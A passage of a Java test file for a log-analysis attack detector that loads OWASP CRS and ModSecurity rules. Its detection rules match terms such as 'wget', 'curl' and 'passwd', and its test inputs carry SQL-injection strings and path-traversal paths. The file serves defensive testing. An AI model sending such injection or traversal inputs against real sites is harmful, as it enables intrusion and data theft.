          .extracting(Match::target).containsExactly("args:utm_x");
      assertThat(d.judge(get("/s?ref=curl", "x", 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/s?password=union", "x", 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/s?user=union", "x", 200), "s").ruleIds())
          .containsExactly("10003");
      assertThat(d.judge(get("/a?_method=DELETE", "x", 200), "s").ruleIds())
          .containsExactly("10005");
      assertThat(d.judge(get("/a?_method=GET", "x", 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/a?method=DELETE", "x", 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/a?_method=%44ELETE", "x", 200), "s").ruleIds())
          .containsExactly("10005");
    }
  }

  /**
   * An empty value is judged by the rules an empty text matches, as ModSecurity judges it: a
   * header sent empty (CRS 920330, {@code ^$} on the User-Agent), an argument without a value,
   * named for the argument and only by rules that read it. A header not sent is not judged, nor
   * does a rule that needs text fire on an empty one.
   */
  @Test
  void anEmptyValueIsJudgedAndAnAbsentOneIsNot() {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: protocol, msg: empty agent, severity: notice,
             targets: [user_agent], rx: '^$'}
          - {id: T-2, class: protocol, msg: empty token, severity: notice,
             targets: ['args:token'], rx: '^$'}
          - {id: T-3, class: sqli, msg: text, targets: [user_agent, referer, args], rx: 'x'}
        """))));
    for (int round = 0; round < 2; round++) {
      Verdict empty = d.judge(get("/a?q=", "", 200), "s");
      assertThat(empty.ruleIds()).containsExactly("T-1");
      assertThat(empty.matches().get(0).target()).isEqualTo("user_agent");
      assertThat(empty.score()).isEqualTo(Severity.NOTICE.score());
      assertThat(d.judge(get("/a?q=", null, 200), "s").clean()).isTrue();
      assertThat(d.judge(get("/a", "curl", 200), "s").clean()).isTrue();
      Verdict token = d.judge(get("/a?q=&token=", "curl", 200), "s");
      assertThat(token.ruleIds()).containsExactly("T-2");
      assertThat(token.matches().get(0).target()).isEqualTo("args:token");
      assertThat(d.judge(get("/a?token=abc", "curl", 200), "s").clean()).isTrue();
    }
  }

  /**
   * A header not sent: CRS's {@code &REQUEST_HEADERS:User-Agent "@eq 0"} (920320; the Host,
   * 920280) reads {@code headers_not_sent}, as Evident's own files may. It fires only where the
   * log holds the header: a {@code common} log's missing agent is no request without one, nor is
   * a {@code vhost_combined} log's server name a Host header.
   */
  @ParameterizedTest(name = "{0}: {1}")
  @CsvSource(delimiter = '|', value = {
      "combined|\"-\" \"-\"|920320",
      "combined|\"-\" \"\"|920330",
      "combined|\"-\" \"curl/8\"|",
      "common||",
      "apache:%h %l %u %t \"%r\" %>s %b \"%{Host}i\"|\"-\"|920280",
      "apache:%h %l %u %t \"%r\" %>s %b \"%{Host}i\"|\"\"|920290",
      "apache:%h %l %u %t \"%r\" %>s %b \"%{Host}i\"|\"a.example\"|"})
  void aHeaderNotSentIsToldFromOneTheLogDoesNotHold(String format, String tail, String fires)
      throws Exception {
    RuleSet crs = RuleSet.parse(List.of(new RuleFile("crs.conf", String.join("\n",
        "SecRule &REQUEST_HEADERS:Host \"@eq 0\" \"id:920280,phase:1,block,"
            + "tag:'paranoia-level/1',severity:'CRITICAL',skipAfter:END-HOST-CHECK\"",
        "SecRule REQUEST_HEADERS:Host \"@rx ^$\" \"id:920290,phase:1,block,"
            + "tag:'paranoia-level/1',severity:'WARNING'\"",
        "SecMarker \"END-HOST-CHECK\"",
        "SecRule &REQUEST_HEADERS:User-Agent \"@eq 0\" \"id:920320,phase:1,block,"
            + "tag:'paranoia-level/1',severity:'NOTICE'\"",
        "SecRule REQUEST_HEADERS:User-Agent \"@rx ^$\" \"id:920330,phase:1,block,"
            + "tag:'paranoia-level/1',severity:'NOTICE'\"", ""))));
    assertThat(crs.rules()).extracting(Rule::id)
        .containsExactly("920280", "920290", "920320", "920330");
    String line = "1.2.3.4 - - [10/Feb/2013:10:00:00 +0000] \"GET / HTTP/1.0\" 200 1"
        + (tail == null ? "" : " " + tail);
    Request r = org.evident.log.LogFormats.byName(format).newParser().parse(line);
    Detector d = new Detector(crs, 100, 1);
    for (int round = 0; round < 2; round++) {
      assertThat(d.judge(r, "s").ruleIds()).containsExactlyElementsOf(
          fires == null ? List.of() : List.of(fires));
    }
    RuleSet own = RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: protocol, msg: no agent, severity: notice,
             targets: [headers_not_sent], streq: user-agent}
        """)));
    assertThat(new Detector(own).judge(r, "s").ruleIds().contains("T-1"))
        .isEqualTo("920320".equals(fires));
  }

  /**
   * The detector keeps what a request line matched for the next request with the same line; a
   * header not sent is the request's, not the line's, and is not kept with it.
   */
  @Test
  void aHeaderNotSentStaysWithItsRequest() throws Exception {
    Detector d = new Detector(RuleSet.parse(List.of(new RuleFile("crs.conf",
        "SecRule &REQUEST_HEADERS:User-Agent \"@eq 0\" \"id:920320,phase:1,block,"
            + "tag:'paranoia-level/1',severity:'NOTICE'\"\n"))), 100, 1);
    LineParser p = org.evident.log.LogFormats.byName("combined").newParser();
    String line = "1.2.3.4 - - [10/Feb/2013:10:00:00 +0000] \"GET /a?b=c HTTP/1.1\" 200 1 \"-\" ";
    for (int round = 0; round < 3; round++) {
      assertThat(d.judge(p.parse(line + "\"-\""), "s").ruleIds()).containsExactly("920320");
      assertThat(d.judge(p.parse(line + "\"curl\""), "s").ruleIds()).isEmpty();
    }
  }

  /**
   * CRS's {@code REQUEST_BASENAME} is the path's last segment, read as a value of its own: 942101
   * runs libinjection on it and on the whole path, so {@code /post/1234 OR 1=1} is an injection
   * (its basename alone is) and {@code /post/foo/9'union all/bar} is not.
   */
  @ParameterizedTest(name = "{0} -> basename {1}")
  @CsvSource(delimiter = '|', value = {
      "/post/1234%20OR%201=1|1234%20OR%201=1|true",
      "/post/foo/24'union+all+select+1,2,3+from+aa|24'union+all+select+1,2,3+from+aa|true",
      "/post/foo/9'union+all/bar|bar|false",
      "/post/foo/24+union+all+select+1,2,3+from+aa/bar|bar|false",
      "/a/b.php?x=1|b.php|false",
      "/a/|''|false"})
  void theBasenameIsThePathsLastSegment(String target, String basename, boolean sqli) {
    RuleSet crs = RuleSet.parse(List.of(new RuleFile("crs.conf",
        "SecRule REQUEST_BASENAME|REQUEST_FILENAME \"@detectSQLi\" \"id:942101,phase:1,block,"
            + "t:none,t:utf8toUnicode,t:urlDecodeUni,t:removeNulls,"
            + "tag:'paranoia-level/1',severity:'CRITICAL'\"\n")));
    assertThat(crs.rules().get(0).targets()).containsExactlyInAnyOrder(Target.BASENAME,
        Target.PATH);
    assertThat(new RequestTargets(get(target, "x", 200)).values(Target.BASENAME))
        .containsExactly(basename);
    assertThat(new Detector(crs).judge(get(target, "x", 200), "s").attack()).as(target)
        .isEqualTo(sqli);
  }

  /**
   * A site's {@code SecRuleUpdateTargetById 942101 "!REQUEST_BASENAME"} becomes an allow entry
   * {@code target: basename}: what 942101 finds in the last segment is excused, what it finds
   * in the whole path still counts; a {@code target: path} entry covers the last segment too.
   */
  @ParameterizedTest(name = "{0} excused by {1}: {2}")
  @CsvSource(delimiter = '|', value = {
      "/post/1234%20OR%201=1|SecRuleUpdateTargetById 942101 \"!REQUEST_BASENAME\"|true",
      "/post/foo/24'union+all+select+1,2,3+from+aa/bar|SecRuleUpdateTargetById 942101"
          + " \"!REQUEST_BASENAME\"|false",
      "/post/1234%20OR%201=1|SecRuleUpdateTargetById 942101 \"!REQUEST_FILENAME\"|true"})
  void aBasenameExclusionExcusesTheLastSegmentOnly(String target, String update,
      boolean excused) {
    String rule = "SecRule REQUEST_BASENAME|REQUEST_FILENAME \"@detectSQLi\" \"id:942101,"
        + "phase:1,block,t:none,t:utf8toUnicode,t:urlDecodeUni,t:removeNulls,"
        + "tag:'paranoia-level/1',severity:'CRITICAL'\"\n";
    Detector plain = new Detector(RuleSet.parse(List.of(new RuleFile("crs.conf", rule))));
    assertThat(plain.judge(get(target, "x", 200), "s").attack()).as(target).isTrue();
    Detector tuned = new Detector(RuleSet.parse(List.of(new RuleFile("crs.conf", rule),
        new RuleFile("RESPONSE-999.conf", update + "\n"))));
    Verdict v = tuned.judge(get(target, "x", 200), "s");
    assertThat(v.attack()).as(target).isEqualTo(!excused);
    assertThat(v.excused()).hasSize(excused ? 1 : 0);
  }

  /**
   * Too many arguments: CRS's 920380 counts them ({@code &ARGS}) once crs-setup.conf sets
   * {@code tx.max_num_args}, and is off where it does not; Evident reads the count as the target
   * {@code args_count}, which its own files name too.
   */
  @ParameterizedTest(name = "{0} -> too many {1}")
  @CsvSource(delimiter = '|', value = {
      "/a?p1=1&p2=2&p3=3&p4=4|true",
      "/a?p1=1&p2=2&p1=3&p2=4&p5|true",
      "/a?p1=1&p2=2&p3=3|false",
      "/a?p1=1&&p2=2&&p3=3&|false",
      "/a|false"})
  void tooManyArgumentsAreCounted(String target, boolean tooMany) {
    String rule = limitRule("920380", "max_num_args", "&ARGS");
    RuleSet crs = withLimit(rule, "max_num_args", 3);
    assertThat(crs.rules()).extracting(Rule::id).containsExactly("920380");
    assertThat(crs.rules().get(0).targets()).containsExactly(Target.ARGS_COUNT);
    assertThat(RuleSet.parse(List.of(new RuleFile("crs.conf", rule))).skipped())
        .containsEntry("off in this configuration (tx.max_num_args)", List.of("920380"));
    RuleSet own = RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: protocol, msg: t, severity: critical, targets: [args_count], gt: 3}
        """)));
    for (RuleSet rs : List.of(crs, own)) {
      Detector d = new Detector(rs);
      for (int round = 0; round < 2; round++) { // the second round from the detector's caches
        Verdict v = d.judge(get(target, "x", 200), "s");
        assertThat(v.attack()).as(target).isEqualTo(tooMany);
        if (tooMany) {
          assertThat(v.matches().get(0).target()).isEqualTo("args_count");
          assertThat(v.matches().get(0).fragment()).isEqualTo(
              target.contains("p5") ? "5" : "4");
        }
      }
    }
  }

  /**
   * A CRS rule on a limit crs-setup.conf may set, as CRS writes them: on when the limit is set
   * ({@code &TX:NAME "@eq 1"}), then {@code variable} tested against it.
   */
  private static String limitRule(String id, String limit, String variable) {
    return String.join("\n",
        "SecRule &TX:" + limit.toUpperCase(java.util.Locale.ROOT) + " \"@eq 1\" \"id:" + id
            + ",phase:2,block,msg:'limit',tag:'paranoia-level/1',severity:'CRITICAL',chain\"",
        "  SecRule " + variable + " \"@gt %{tx." + limit + "}\" \"t:none,"
            + "setvar:'tx.inbound_anomaly_score_pl1=+5'\"", "");
  }

  /** {@code rule} loaded after a crs-setup.conf that sets {@code tx.limit} to {@code value}. */
  private static RuleSet withLimit(String rule, String limit, int value) {
    return RuleSet.parse(List.of(new RuleFile("crs-setup.conf",
        "SecAction \"id:900300,phase:1,pass,nolog,setvar:tx." + limit + "=" + value + "\"\n"),
        new RuleFile("crs.conf", rule)));
  }

  /**
   * The arguments' total length: CRS's 920390 reads {@code ARGS_COMBINED_SIZE} once
   * crs-setup.conf sets {@code tx.total_arg_length}: names and values, decoded once, as
   * ModSecurity's parser hands them over.
   */
  @ParameterizedTest(name = "{0} -> {1} characters")
  @CsvSource(delimiter = '|', value = {
      "/a?ab=cdef|6",
      "/a?ab=cdef&g=h|8",
      "/a?%61b=%63def&g=h+i|10",
      "/a?flag&x=|5",
      "/a|0"})
  void theArgumentsTotalLengthIsMeasuredDecoded(String target, int size) {
    RuleSet crs = withLimit(limitRule("920390", "total_arg_length", "ARGS_COMBINED_SIZE"),
        "total_arg_length", 7);
    assertThat(crs.rules().get(0).targets()).containsExactly(Target.ARGS_COMBINED_SIZE);
    assertThat(new RequestTargets(get(target, "x", 200)).values(Target.ARGS_COMBINED_SIZE))
        .containsExactly(String.valueOf(size));
    Verdict v = new Detector(crs).judge(get(target, "x", 200), "s");
    assertThat(v.attack()).as(target).isEqualTo(size > 7);
  }

  /**
   * Parameter pollution: an argument name sent twice. CRS counts names in one rule (921170) and
   * tests the counters in the next (921180); Evident reads the counters as the target
   * {@code args_name_counts}, which its own files name too. Names are compared as ModSecurity
   * compares them: decoded once, in any case. Without the counting rule, the counters are
   * nothing a log holds.
   */
  @ParameterizedTest(name = "{0} -> polluted {1}")
  @CsvSource(delimiter = '|', value = {
      "/a?id=1&id=2|true",
      "/a?id=1&x=2&id=2&id=3|true",
      "/a?id=1&ID=2|true",
      "/a?id=1&%69d=2|true",
      "/a?ids[]=1&ids[]=2|true",
      "/a?id=1&ids=2|false",
      "/a?id=1&x=id|false",
      "/a?id|false",
      "/a|false",
      "/a?id=1&%2569d=2|false"})
  void repeatedArgumentNamesAreParameterPollution(String target, boolean polluted) {
    RuleSet crs = RuleSet.parse(List.of(new RuleFile("crs.conf", String.join("\n",
        "SecRule ARGS_NAMES \"@rx .\" \"id:921170,phase:2,pass,nolog,"
            + "tag:'paranoia-level/1',setvar:'TX.paramcounter_%{MATCHED_VAR_NAME}=+1'\"",
        "SecRule TX:/paramcounter_.*/ \"@gt 1\" \"id:921180,phase:2,block,"
            + "msg:'HTTP Parameter Pollution (%{MATCHED_VAR_NAME})',"
            + "tag:'paranoia-level/1',severity:'CRITICAL',"
            + "setvar:'tx.inbound_anomaly_score_pl1=+5'\"", ""))));
    assertThat(crs.rules()).extracting(Rule::id).containsExactly("921180");
    assertThat(crs.rules().get(0).message()).isEqualTo("HTTP Parameter Pollution");
    assertThat(crs.rules().get(0).targets()).containsExactly(Target.ARGS_NAME_COUNTS);
    assertThat(crs.skipped()).containsEntry("counts for other rules, scores nothing",
        List.of("921170"));
    // CRS 3.3's form: a chain line that captures the counter's name for the message
    RuleSet crs33 = RuleSet.parse(List.of(new RuleFile("crs.conf", String.join("\n",
        "SecRule ARGS_NAMES \".\" \"id:921170,phase:2,pass,nolog,"
            + "tag:'paranoia-level/1',setvar:'TX.paramcounter_%{MATCHED_VAR_NAME}=+1'\"",
        "SecRule TX:/paramcounter_.*/ \"@gt 1\" \"id:921180,phase:2,pass,"
            + "msg:'HTTP Parameter Pollution (%{TX.1})',tag:'paranoia-level/1',"
            + "severity:'CRITICAL',chain\"",
        "  SecRule MATCHED_VARS_NAMES \"@rx TX:paramcounter_(.*)\" \"capture,"
            + "setvar:'tx.anomaly_score_pl1=+5'\"", ""))));
    assertThat(crs33.rules()).extracting(Rule::id, Rule::message)
        .containsExactly(tuple("921180", "HTTP Parameter Pollution"));
    assertThat(crs33.rules().get(0).chain()).isNull();
    RuleSet own = RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: protocol, msg: t, severity: critical, targets: [args_name_counts],
             gt: 1}
        """)));
    for (RuleSet rs : List.of(crs, crs33, own)) {
      Detector d = new Detector(rs);
      for (int round = 0; round < 2; round++) { // the second round from the detector's caches
        Verdict v = d.judge(get(target, "x", 200), "s");
        assertThat(v.attack()).as(target).isEqualTo(polluted);
        if (polluted) {
          assertThat(v.matches().get(0).target()).isEqualTo("args_name_counts:"
              + (target.contains("ids") ? "ids[]" : "id"));
        }
      }
    }
    // a site whose form sends ids[] more than once allows that argument, and no other
    Detector tuned = new Detector(RuleSet.parse(List.of(new RuleFile("t.yaml", """
        rules:
          - {id: T-1, class: protocol, msg: t, severity: critical, targets: [args_name_counts],
             gt: 1}
        allow:
          - {rule: T-1, arg: 'ids[]'}
        """))));
    boolean other = target.contains("id=") || target.contains("ID=") || target.contains("%69d");
    assertThat(tuned.judge(get(target, "x", 200), "s").attack()).as(target)
        .isEqualTo(polluted && other);
    RuleSet uncounted = RuleSet.parse(List.of(new RuleFile("crs.conf",
        "SecRule TX:/paramcounter_.*/ \"@gt 1\" \"id:921180,phase:2,block,"
            + "tag:'paranoia-level/1',severity:'CRITICAL'\"\n")));
    assertThat(uncounted.rules()).isEmpty();
  }

  /**
   * An allow entry names arguments as rules do: {@code arg: /^utm_/} by a pattern, a name in
   * any case; a pattern RE2/J does not take is refused when the file loads.
   */
  @Test
  void allowEntriesNameArgumentsByPattern() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("local.yaml", String.join("\n",
        "rules:",
        "  - {id: L-1, class: cmdi, targets: [args], contains: wget}",
        "allow:",
        "  - {rule: L-1, arg: /^utm_/}",
        "  - {rule: L-1, arg: q}"))));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?utm_content=wget", "x", 200), "s").excused())
        .extracting(Verdict.Excused::allow).containsExactly("local.yaml, allow entry 1");
    assertThat(d.judge(get("/s?Q=wget", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/s?x_utm=wget", "x", 200), "s").ruleIds()).containsExactly("L-1");
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("bad.yaml", String.join("\n",
        "allow:", "  - {rule: L-1, arg: '/(?=x)/'}")))))
        .hasMessageContaining("argument name pattern /(?=x)/ does not compile");
  }

  /**
   * An entry with {@code target: args_names} drops only what the rule found in argument names,
   * as CRS's {@code ctl:ruleRemoveTargetById=N;ARGS_NAMES} (XenForo's thread addresses, whose
   * whole slug is one argument's name): the rule still counts in a value.
   */
  @Test
  void allowEntriesTakeArgumentNamesOut() {
    RuleSet rs = RuleSet.parse(List.of(
        new RuleFile("local.yaml", String.join("\n",
            "rules:",
            "  - {id: L-1, class: sqli, targets: [args_names, args], contains: union}",
            "allow:",
            "  - {rule: L-1, target: args_names, path: ^/forum}")),
        new RuleFile("REQUEST-900.conf", String.join("\n",
            "SecRule REQUEST_FILENAME \"@endsWith /index.php\" \"id:1000,phase:1,pass,nolog,"
                + "ctl:ruleRemoveTargetById=10001;ARGS_NAMES\"",
            "SecRule ARGS_NAMES|ARGS \"@contains having\" \"id:10001,phase:2,block,"
                + "severity:'CRITICAL',tag:'attack-sqli',tag:'paranoia-level/1'\"", ""))));
    assertThat(rs.skipped().get(CrsRules.APPLIED)).containsExactly("1000");
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/forum?union-of-posts.12/", "x", 200), "s").excused())
        .extracting(Verdict.Excused::allow).containsExactly("local.yaml, allow entry 1");
    assertThat(d.judge(get("/forum?q=union", "x", 200), "s").ruleIds()).containsExactly("L-1");
    assertThat(d.judge(get("/blog?union-of-posts.12/", "x", 200), "s").ruleIds())
        .containsExactly("L-1");
    assertThat(d.judge(get("/index.php?threads/having-fun.9/", "x", 200), "s").clean())
        .isTrue();
    assertThat(d.judge(get("/index.php?q=having", "x", 200), "s").ruleIds())
        .containsExactly("10001");
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("bad.yaml", String.join("\n",
        "allow:", "  - {rule: L-1, target: args}")))))
        .hasMessageContaining("target can only be path, basename or args_names");
  }

  /** Evident's own rules name arguments the same way: {@code targets: [args:q]}. */
  @Test
  void ruleFilesNameArguments() {
    RuleSet rs = RuleSet.parse(List.of(new RuleFile("local.yaml", String.join("\n",
        "rules:",
        "  - {id: L-1, class: cmdi, targets: ['args:q', 'args:/^s_/'], contains: wget}"))));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?q=wget", "x", 200), "s").ruleIds()).containsExactly("L-1");
    assertThat(d.judge(get("/s?s_1=wget", "x", 200), "s").ruleIds()).containsExactly("L-1");
    assertThat(d.judge(get("/s?t=wget", "x", 200), "s").clean()).isTrue();
    assertThatThrownBy(() -> RuleSet.parse(List.of(new RuleFile("local.yaml", String.join("\n",
        "rules:", "  - {id: L-2, class: cmdi, targets: ['path:x'], contains: wget}")))))
        .hasMessage("local.yaml: rule L-2: target path:x: only args, args_names,"
            + " request_headers, request_cookies and request_cookies_names take a name");
  }

  /**
   * A site's CRS tuning carries over: SecRuleRemoveById (ids and ranges), ...ByTag and ...ByMsg
   * take out the rules defined before them, as in ModSecurity (in a file before the rules they
   * take out nothing); SecRuleUpdateTargetById/ByTag with !ARGS:name excuse the rules in that
   * argument only, as an allow entry with arg: does.
   */
  @Test
  void aSitesCrsExclusionsCarryOver() {
    String rules = String.join("\n",
        "SecRule ARGS \"@contains wget\" \"id:10001,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-rce',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains curl\" \"id:10002,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-rce',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains union\" \"id:10003,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-sqli',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains script\" \"id:10004,phase:2,block,severity:'CRITICAL',"
            + "msg:'XSS by script tag',tag:'attack-xss',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains passwd\" \"id:10005,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-lfi',tag:'paranoia-level/1'\"", "");
    RuleFile before = new RuleFile("REQUEST-900.conf", "SecRuleRemoveById 10005\n");
    RuleFile crs = new RuleFile("REQUEST-930.conf", rules);
    RuleFile after = new RuleFile("RESPONSE-999.conf", String.join("\n",
        "SecRuleRemoveById 10001-10001",
        "SecRuleRemoveByMsg \"by script\"",
        "SecRuleUpdateTargetByTag \"attack-sqli\" \"!ARGS:q|!REQUEST_COOKIES:session\"",
        "SecRuleUpdateTargetById 10002 \"!ARGS:cmd\"",
        "SecRuleUpdateTargetById 10002 \"!ARGS:/^utm_/\"", ""));
    RuleSet rs = RuleSet.parse(List.of(before, crs, after));
    assertThat(rs.rules()).extracting(Rule::id).containsExactly("10002", "10003", "10005");
    assertThat(rs.skipped()).containsEntry("removed by SecRuleRemoveById (site configuration)",
        List.of("10001")).containsEntry("removed by SecRuleRemoveByMsg (site configuration)",
        List.of("10004"));
    Detector d = new Detector(rs);
    assertThat(d.judge(get("/s?q=union", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/s?r=union", "x", 200), "s").ruleIds()).containsExactly("10003");
    assertThat(d.judge(get("/s?cmd=curl", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/s?q=curl", "x", 200), "s").ruleIds()).containsExactly("10002");
    assertThat(d.judge(get("/s?utm_term=curl", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/s?utm_term=curl&q=curl", "x", 200), "s").ruleIds())
        .containsExactly("10002");
    assertThat(d.judge(get("/s?q=passwd", "x", 200), "s").ruleIds())
        .as("removed before it was defined: not removed").containsExactly("10005");
    RuleSet byTag = RuleSet.parse(List.of(crs, new RuleFile("RESPONSE-999.conf",
        "SecRuleRemoveByTag \"attack-(lfi|xss)\"\n")));
    assertThat(byTag.rules()).extracting(Rule::id).containsExactly("10001", "10002", "10003");
  }

  /**
   * A site's runtime exclusions (CRS's REQUEST-900 file) on the path, the source or the Host
   * become allow entries; ones behind a skip on TX settings (CRS's application packages, off
   * unless crs-setup.conf switches them on) or with a pattern RE2 does not take stay listed as
   * not applied.
   */
  @Test
  void aSitesRuntimeExclusionsBecomeAllowEntries() {
    RuleFile exclusions = new RuleFile("REQUEST-900.conf", String.join("\n",
        "SecRule REQUEST_FILENAME \"@beginsWith /admin/editor\" \"id:1000,phase:1,pass,nolog,"
            + "ctl:ruleRemoveTargetById=10001;ARGS:content\"",
        "SecRule REQUEST_URI \"@beginsWith /api/\" \"id:1001,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10002\"",
        "SecRule REMOTE_ADDR \"@ipMatch 192.0.2.77,198.51.100.0/24\" \"id:1002,phase:1,pass,"
            + "nolog,ctl:ruleRemoveByTag=attack-sqli\"",
        "SecRule REQUEST_FILENAME \"@rx ^/x(?=y)\" \"id:1003,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10002\"",
        "SecRule REQUEST_HEADERS:Host \"@streq a\" \"id:1004,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10002\"",
        "SecRule &TX:site_exclusions \"@eq 0\" \"id:1005,phase:1,pass,nolog,skipAfter:END\"",
        "SecRule REQUEST_FILENAME \"@beginsWith /b/\" \"id:1006,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10002\"",
        "SecMarker END",
        "SecRule REQUEST_FILENAME \"@streq /c\" \"id:1007,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10002\"", ""));
    RuleFile rules = new RuleFile("REQUEST-930.conf", String.join("\n",
        "SecRule ARGS \"@contains script\" \"id:10001,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-xss',tag:'paranoia-level/1'\"",
        "SecRule REQUEST_FILENAME \"@contains ../\" \"id:10002,phase:2,block,"
            + "severity:'CRITICAL',tag:'attack-lfi',tag:'paranoia-level/1'\"",
        "SecRule ARGS \"@contains union\" \"id:10003,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-sqli',tag:'paranoia-level/1'\"", ""));
    RuleSet rs = RuleSet.parse(List.of(exclusions, rules));
    assertThat(rs.skipped().get(CrsRules.APPLIED))
        .as("1007 comes after the skipped section's marker")
        .containsExactly("1000", "1001", "1002", "1004", "1007");
    assertThat(rs.skipped().get(CrsRules.NOT_APPLIED)).as("a look-ahead").containsExactly("1003");
    assertThat(rs.skipped().get("exclusion (ctl:ruleRemove...), not applied: its section is off"
        + " (tx.site_exclusions)")).containsExactly("1006");
    Detector d = new Detector(rs);
    Verdict editor = d.judge(get("/admin/editor/save?content=script", "x", 200), "s");
    assertThat(editor.clean()).isTrue();
    assertThat(editor.excused()).extracting(Verdict.Excused::allow)
        .containsExactly("REQUEST-900.conf, rule 1000");
    assertThat(d.judge(get("/admin/editor/save?title=script", "x", 200), "s").ruleIds())
        .containsExactly("10001");
    assertThat(d.judge(get("/blog?content=script", "x", 200), "s").ruleIds())
        .containsExactly("10001");
    assertThat(d.judge(get("/api/../etc", "x", 200), "s").clean()).isTrue();
    assertThat(d.judge(get("/b/../etc", "x", 200), "s").ruleIds())
        .as("1006 is behind a switch that is off").containsExactly("10002");
    Request fromSite = get("/s?q=union", "x", 200).withClientIp("192.0.2.77");
    assertThat(d.judge(fromSite, "s").clean()).isTrue();
    assertThat(d.judge(get("/s?q=union", "x", 200), "s").ruleIds()).containsExactly("10003");
    // the section's switch on, as crs-setup.conf sets CRS's (tx.crs_exclusions_wordpress=1)
    RuleFile setup = new RuleFile("crs-setup.conf", "SecAction \"id:900130,phase:1,nolog,pass,"
        + "setvar:tx.site_exclusions=1\"\n");
    RuleSet on = RuleSet.parse(List.of(setup, exclusions, rules));
    assertThat(on.skipped().get(CrsRules.APPLIED))
        .containsExactly("1000", "1001", "1002", "1004", "1006", "1007");
    assertThat(new Detector(on).judge(get("/b/../etc", "x", 200), "s").clean()).isTrue();
    // a SecAction's exclusion holds for every request (a plugin's or a site's, before the rules)
    RuleSet always = RuleSet.parse(List.of(new RuleFile("shop-before.conf",
        "SecAction \"id:9500010,phase:1,pass,nolog,ctl:ruleRemoveById=10003\"\n"), rules));
    assertThat(always.skipped().get(CrsRules.APPLIED)).containsExactly("9500010");
    Verdict anywhere = new Detector(always).judge(get("/s?q=union", "x", 200), "s");
    assertThat(anywhere.clean()).isTrue();
    assertThat(anywhere.excused()).extracting(Verdict.Excused::allow)
        .containsExactly("shop-before.conf, rule 9500010");
  }

  /**
   * Chained exclusions (CRS's application packages, its common exceptions) apply to the requests
   * every line of the chain matches, when each line tests what a log holds: an argument's value
   * (its name decoded, in any case), how many there are, the request line, the source, the
   * path's bytes, a cookie (where the log holds the Cookie header). A section skipped on the
   * path runs where the skip does not hold. A removal of a cookie is an entry with
   * {@code cookie:}.
   */
  @Test
  void chainedExclusionsApplyWhereEveryLineHolds() {
    RuleFile exclusions = new RuleFile("REQUEST-903.conf", String.join("\n",
        "SecRule REQUEST_FILENAME \"@endsWith /wp-login.php\" \"id:2000,phase:2,pass,nolog,"
            + "chain\"",
        "  SecRule ARGS:action \"@streq resetpass\" \"t:none,chain\"",
        "    SecRule &ARGS:action \"@eq 1\" \"t:none,"
            + "ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:pass1,"
            + "ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:pass2\"",
        "SecRule REQUEST_FILENAME \"@endsWith /wp-login.php\" \"id:2008,phase:2,pass,nolog,"
            + "ctl:ruleRemoveTargetByTag=OWASP_CRS;ARGS:pwd\"",
        "SecRule REQUEST_LINE \"@beginsWith GET /?q=\" \"id:2001,phase:1,pass,nolog,chain\"",
        "  SecRule REMOTE_ADDR \"@ipMatch 127.0.0.1,::1\" \"t:none,"
            + "ctl:ruleRemoveByTag=OWASP_CRS,ctl:auditEngine=Off\"",
        "SecRule REQUEST_FILENAME \"!@contains /wp-admin/\" \"id:2002,phase:1,pass,nolog,"
            + "skipAfter:END-ADMIN\"",
        "SecRule ARGS:page \"@streq editor\" \"id:2003,phase:2,pass,nolog,"
            + "ctl:ruleRemoveById=10001-10003\"",
        "SecMarker END-ADMIN",
        "SecRule REQUEST_COOKIES:wp \"@rx x\" \"id:2004,phase:1,pass,nolog,"
            + "ctl:ruleRemoveById=10001\"",
        "SecRule REQUEST_FILENAME \"@streq /c\" \"id:2005,phase:1,pass,nolog,"
            + "ctl:ruleRemoveTargetById=10001;REQUEST_COOKIES:x\"",
        "SecRule REQUEST_FILENAME \"@streq /c\" \"id:2006,phase:1,pass,nolog,"
            + "ctl:ruleRemoveTargetById=10001;ARGS:/^json/\"",
        "SecRule REQUEST_FILENAME \"!@validateByteRange 20,45-47,48-57,65-90,95,97-122\" "
            + "\"id:2007,phase:1,pass,nolog,"
            + "ctl:ruleRemoveTargetByTag=xss-perf-disable;REQUEST_FILENAME\"", ""));
    RuleFile rules = new RuleFile("REQUEST-941.conf", String.join("\n",
        "SecRule ARGS \"@contains script\" \"id:10001,phase:2,block,severity:'CRITICAL',"
            + "tag:'attack-xss',tag:'OWASP_CRS',tag:'paranoia-level/1'\"",
        "SecRule REQUEST_FILENAME \"@contains ../\" \"id:10002,phase:2,block,"
